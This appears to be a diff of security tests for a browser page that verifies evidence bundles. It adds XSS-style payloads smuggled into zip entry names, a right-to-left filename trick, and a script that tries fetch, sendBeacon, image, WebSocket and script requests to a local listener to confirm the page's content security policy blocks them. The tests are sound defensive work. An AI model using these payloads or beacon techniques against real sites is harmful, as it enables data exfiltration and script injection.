@@ -2,9 +2,12 @@
 """The page itself, opened from a file in Chromium: it is undecided until a root was given, and asks no network."""
 
 import hashlib
+import http.server
 import json
 import re
 import shutil
+import subprocess
+import threading
 import warnings
 import zipfile
 
@@ -174,6 +177,81 @@ def test_a_zip_that_two_programs_read_otherwise_never_holds(opened, zipped, root
     assert shown is None or shown.get_attribute("data-outcome") == "fails"
 
 
+def test_who_hands_over_a_directory_of_his_own_with_the_evidence_gets_no_verdict(opened, zipped):
+    """All that he gives is of one piece; only the fingerprint, from elsewhere, can vouch for it."""
+    assert check(opened, zipped("disclosure"), directory=zipped("directory")) == "undecided"
+    for listed in ("disclosure-signed", "disclosure-listed", "disclosure-proved"):
+        assert opened.inner_text(f"[data-check={listed}] .outcome") == "Holds"
+
+
+def test_what_evidence_says_is_shown_as_text_and_asks_for_nothing(opened, zipped, tmp_path):
+    place = tmp_path / "markup.zip"
+    address = "https://example.org/seen"
+    names = [f"bundle/<img src='{address}' onerror='document.body.id=1'>", "bundle/\u202etxt.exe"]
+    shutil.copy(zipped("bundle"), place)
+    with zipfile.ZipFile(place, "a") as packed:
+        for name in names:
+            packed.writestr(name, f"<script src='{address}'></script>")
+    assert check(opened, place) == "fails"
+    shown = opened.inner_text("[data-check=bundle-complete]")
+    assert "onerror" in shown
+    assert "\u202e" not in shown
+    assert opened.query_selector("img, iframe, object, embed, link, script[src]") is None
+    assert opened.get_attribute("body", "id") is None
+
+
+class Watched(http.server.BaseHTTPRequestHandler):
+    """Somebody who wants to know which evidence a court looks at."""
+
+    def do_GET(self):
+        self.server.seen.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    do_POST = do_GET
+
+    def log_message(self, *args):
+        pass
+
+
+ASKING = """async (address) => {
+    const ways = [
+      () => fetch(`${address}/fetch`, { mode: "no-cors" }),
+      () => navigator.sendBeacon(`${address}/beacon`, "evidence"),
+      () => new Promise((done) => { const one = new Image(); one.onload = one.onerror = done; one.src = `${address}/image`; }),
+      () => new Promise((done) => { const one = new WebSocket(`${address.replace("http", "ws")}/socket`); one.onopen = one.onerror = done; }),
+      () => new Promise((done) => { const one = document.createElement("script"); one.onload = one.onerror = done; one.src = `${address}/script`; document.body.append(one); }),
+    ];
+    for (const way of ways) try { await way(); } catch {}
+}"""
+
+
+def test_a_script_in_the_page_could_tell_nobody(chromium, built, tmp_path):
+    """The same script reaches its maker from a page without this policy."""
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Watched)
+    server.seen = []
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    open_page = tmp_path / "open.html"
+    open_page.write_text(
+        re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", built.read_text())
+    )
+    heard = []
+    try:
+        for place in (built, open_page):
+            one = chromium.new_page()
+            one.goto(place.as_uri())
+            one.evaluate(ASKING, f"http://127.0.0.1:{server.server_port}")
+            one.close()
+            heard.append(set(server.seen))
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+    assert heard[0] == set()
+    assert {"/fetch", "/beacon", "/image", "/script"} <= heard[1]
+
+
 @pytest.mark.parametrize("language", LANGUAGES)
 def test_the_page_fits_a_narrow_screen_in_each_language(opened, zipped, root, language):
     opened.set_viewport_size(NARROW)
@@ -243,3 +321,18 @@ def test_the_lock_pins_each_library_and_names_no_registry():
     assert {"node_modules/@noble/curves", "node_modules/@noble/post-quantum"} <= set(packages)
     assert all(one["integrity"].startswith("sha512-") for one in packages.values())
     assert not any("resolved" in one for one in packages.values())
+
+
+def test_the_types_of_the_code_are_right():
+    """TypeScript reads the types in the comments; nothing of it is in the page."""
+    compiler = page.PAGE / "node_modules/.bin/tsc"
+    if not compiler.exists():
+        pytest.skip("TypeScript is not installed: npm ci in verifier/browser")
+    done = subprocess.run(
+        [str(compiler), "--project", "."],
+        cwd=page.PAGE,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert (done.returncode, done.stdout) == (0, "")
